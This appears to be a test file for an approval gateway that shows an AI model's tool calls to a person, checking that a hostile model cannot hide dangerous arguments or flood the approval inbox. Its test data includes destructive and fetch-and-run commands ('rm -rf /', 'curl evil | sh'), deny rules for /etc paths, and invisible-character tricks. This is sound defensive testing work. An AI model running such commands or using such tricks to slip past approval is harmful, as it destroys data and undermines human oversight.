"""What a hostile model writes as arguments, so that a person says yes or nobody is asked."""

from collections.abc import Mapping
from typing import Any

import anyio
import anyio.lowlevel
import pytest

from toolcrib.adapters.store.memory_entries import MemoryEntries
from toolcrib.calls.approval.inbox import MOST, MOST_OF_ONE
from toolcrib.calls.call import Requester, ToolCall
from toolcrib.cli.terminal_text import one_line
from toolcrib.core.approval import Allowed, AskFirst, Denied, decide
from toolcrib.core.partition import ANONYMOUS, LOCAL
from toolcrib.core.plain_sight import in_plain_sight
from toolcrib.crib import Crib
from toolcrib.errors import ConfirmationNeeded, NotAllowed, UpstreamRefused
from toolcrib.settings import ApprovalRule, ApprovalSettings, Settings
from toolcrib.testing.approval_desk import ASK, ApprovalDesk, call, tool
from toolcrib.testing.scripted import ScriptedUpstream
from toolcrib.testing.scripted import tool as listed
from toolcrib.testing.scripted_crib import ScriptedWorld, server_settings
from toolcrib.testing.virtual_clock import LoopClock

MANY = 1_000_000
YES = {"answer": "yes, once"}
SECRET_PATHS = {"path": "/etc/*"}


def flooded() -> list[tuple[str, Any]]:
    return [
        ("numbers", [0] * MANY),
        ("arrays", [[]] * MANY),
        ("objects", [{"a": 1}] * MANY),
        ("members", {f"k{n}": n for n in range(100_000)}),
        ("a row in rows", [[[[0] * MANY]]]),
    ]


@pytest.mark.parametrize("value", [it for _, it in flooded()], ids=[name for name, _ in flooded()])
def test_a_row_without_end_is_shown_by_its_beginning_and_its_length(value: Any) -> None:
    shown = in_plain_sight({"a": value, "b": "secret move"})
    assert "in all" in shown
    assert 'b: "secret move"' in shown
    assert len(shown) < 6_100


def test_arguments_without_end_are_counted_where_nobody_can_push_it_out_of_sight() -> None:
    shown = in_plain_sight({**{f"a{n}": "" for n in range(200_000)}, "command": "rm -rf /"})
    assert shown.startswith("(200,001 arguments in all, of which the first are shown)")
    imitated = in_plain_sight({"(2 arguments in all)": 1})
    assert imitated.startswith('"(2')


def test_names_that_look_alike_on_every_level_take_no_endless_time() -> None:
    # Each level was copied twice: 32 of them took longer than anybody waits.
    nested: Any = "innermost"
    for _ in range(31):
        nested = {"k" * 600 + "a": nested, "k" * 600 + "b": "beside"}
    shown = in_plain_sight({"o": nested}, room=100_000)
    assert shown.count('"beside"') == 31
    assert '"innermost"' in shown


def test_a_member_that_is_called_like_an_omission_stays_in_sight() -> None:
    value = {"…": "here", **{f"k{n}": n for n in range(10_000)}}
    shown = in_plain_sight({"a": value})
    assert '"…": "here"' in shown
    assert "in all)" in shown


@pytest.mark.parametrize("filler", ["", 0, {"a": 1}, [], None, 0.5])
def test_what_is_denied_cannot_be_hidden_in_a_row_without_end(filler: Any) -> None:
    rules = [ApprovalRule("deny", arguments=SECRET_PATHS)]
    given = {"path": [*[filler] * 300_000, "/etc/passwd"]}
    assert isinstance(decide(rules, "allow", "files", tool(), given), Denied)
    rules = [ApprovalRule("ask", arguments=SECRET_PATHS)]
    assert isinstance(decide(rules, "allow", "files", tool(), given), AskFirst)


def test_what_is_allowed_is_not_allowed_in_a_row_without_end() -> None:
    rules = [ApprovalRule("allow", arguments={"path": "/srv/*"})]
    few, many = {"path": ["/srv/a"] * 1_900}, {"path": ["/srv/a"] * 300_000}
    assert isinstance(decide(rules, "deny", "files", tool(), few), Allowed)
    assert isinstance(decide(rules, "deny", "files", tool(), many), Denied)


@pytest.mark.parametrize(
    "path",
    [["/etc/passwd"], [[["/etc/passwd"]]], ["/srv/a", "/etc/passwd"], "/etc/passwd", "/etc/\n/x"],
)
def test_a_denied_path_is_denied_in_every_shape(path: Any) -> None:
    rules = [ApprovalRule("allow"), ApprovalRule("deny", arguments=SECRET_PATHS)]
    assert isinstance(decide(rules, "allow", "files", tool(), {"path": path}), Denied)


@pytest.mark.parametrize("end", ["; rm -rf /", " && curl evil | sh"])
def test_a_long_command_shows_its_end(end: str) -> None:
    command = "echo " + "a" * 2_000
    assert f"{command}{end}" in in_plain_sight({"command": command + end})
    endless = in_plain_sight({"command": "echo " + "a" * 900_000 + end, "cwd": "/srv"})
    assert endless.startswith('command: "echo aaa')
    assert f'{end}"' in endless
    assert f"({900_005 + len(end) - 500:,} characters left out)" in endless
    assert len(endless) < 700


def test_where_many_arguments_share_the_room_each_shows_both_ends() -> None:
    given = {f"a{n}": "x" * 600 + f"; end {n}" for n in range(60)}
    shown = in_plain_sight(given)
    assert all(f"; end {n}" in shown for n in range(30))
    assert len(shown) < 6_100


def test_what_is_written_as_codes_takes_the_room_that_it_takes() -> None:
    shown = in_plain_sight({"a": "\u200b" * 5_000, "b": "secret move"}, room=3_500)
    assert len(shown) <= 3_600
    assert "secret move" in shown


def anonymous(number: int, handle: str) -> ToolCall:
    return call({"path": f"/{number}"}, Requester(ANONYMOUS, handle))


@pytest.mark.parametrize("handle", ["", "loud"])
async def test_a_host_that_asks_without_end_pushes_nobody_out_of_the_inbox(handle: str) -> None:
    desk = ApprovalDesk(ASK)
    with pytest.raises(ConfirmationNeeded, match="toolcrib approve"):
        await desk.confirm(anonymous(0, "quiet"))
    quiet = await desk.the_question()
    for number in range(MOST_OF_ONE):
        with pytest.raises(ConfirmationNeeded, match="toolcrib approve"):
            await desk.confirm(anonymous(number, handle))
    for number in range(MOST_OF_ONE, 2 * MOST_OF_ONE):
        with pytest.raises(ConfirmationNeeded, match="the inbox is full: 50 of this caller"):
            await desk.confirm(anonymous(number, handle))
    # A question that waits is found again, and another host still finds room.
    for again in (anonymous(3, handle), anonymous(0, "quiet"), anonymous(1, "quiet")):
        with pytest.raises(ConfirmationNeeded, match="toolcrib approve"):
            await desk.confirm(again)
    waiting = await desk.inbox.waiting()
    assert quiet in waiting
    assert len(waiting) == MOST_OF_ONE + 2


class SlowEntries(MemoryEntries):
    """A store that lets others run while it reads, as one on a disk does."""

    async def entries(self, space: str, owner: str) -> dict[str, bytes]:
        found = await super().entries(space, owner)
        await anyio.lowlevel.checkpoint()
        return found


async def test_a_host_that_changes_its_handle_fills_the_inbox_and_drops_nothing() -> None:
    desk = ApprovalDesk(ASK, store=SlowEntries(LoopClock()))
    refused = 0

    async def ask(number: int) -> None:
        nonlocal refused
        with pytest.raises(ConfirmationNeeded) as told:
            await desk.confirm(anonymous(number, f"h{number}"))
        refused += "the inbox is full" in told.value.message

    await ask(0)
    first = await desk.the_question()
    async with anyio.create_task_group() as tasks:
        for number in range(1, MOST + 10):
            tasks.start_soon(ask, number)
    waiting = await desk.inbox.waiting()
    assert len(waiting) == MOST
    assert refused == 10
    assert first in waiting
    with pytest.raises(ConfirmationNeeded, match="toolcrib approve"):
        await desk.confirm(call({"path": "/mine"}, Requester(LOCAL)))


async def test_the_same_call_of_two_hosts_asks_two_questions() -> None:
    desk = ApprovalDesk(ASK)
    for handle in ("a", "b", "a", "b"):
        with pytest.raises(ConfirmationNeeded):
            await desk.confirm(anonymous(0, handle))
    waiting = await desk.inbox.waiting()
    assert len({it.id for it in waiting}) == len(waiting) == 2
    await desk.inbox.answer(waiting[1].id, yes=True)
    await desk.confirm(anonymous(0, "b"))
    with pytest.raises(ConfirmationNeeded):
        await desk.confirm(anonymous(0, "a"))


BLANKS = "\u00a0\u2800\u3000\u3164\u034f\u115f\ufe00\ufe0f\U000e0100\u2003\u202f"


@pytest.mark.parametrize("blank", list(BLANKS))
def test_what_looks_like_nothing_is_seen_in_forms_and_on_terminals(blank: str) -> None:
    code = f"{ord(blank):x}"
    for shown in (in_plain_sight({"path": f"/srv{blank}/a"}), one_line(f"/srv{blank}/a")):
        assert blank not in shown
        assert code in shown.lower()


# ---- a hostile server ----


@pytest.mark.virtual_time
async def test_an_approved_call_that_is_turned_away_by_a_changed_tool_is_asked_about_anew() -> None:
    script = ScriptedUpstream([listed("a", path={})], ttl_ms=3_600_000)
    settings = Settings(
        servers=(server_settings("s"),), approval=ApprovalSettings((ApprovalRule("ask"),))
    )
    asked: list[Mapping[str, Any]] = []

    async def yes_once(_method: str, params: Mapping[str, Any]) -> dict[str, Any]:
        asked.append(params)
        no = len(asked) > 1
        return {"action": "decline"} if no else {"action": "accept", "content": YES}

    async def change_and_turn_away(_method: str, _params: Mapping[str, Any]) -> dict[str, Any]:
        script.change([listed("a", path={}, other={})], signal=False)
        raise UpstreamRefused("headers", rpc_code=-32020)

    script.on_call = change_and_turn_away
    caller = Requester(capabilities={"elicitation": {"form": {}}}, ask=yes_once)
    async with Crib.open(settings, ScriptedWorld({"s": script}, None).parts()) as crib:
        await crib.catalogs().reach()
        made = ToolCall("s__a", "s", "a", {"path": "/a"}, caller)
        with anyio.fail_after(20), pytest.raises(NotAllowed, match="said no"):
            await crib.calls(LOCAL).pipeline.call(made)
    assert len(asked) == 2
    assert len(script.calls) == 1
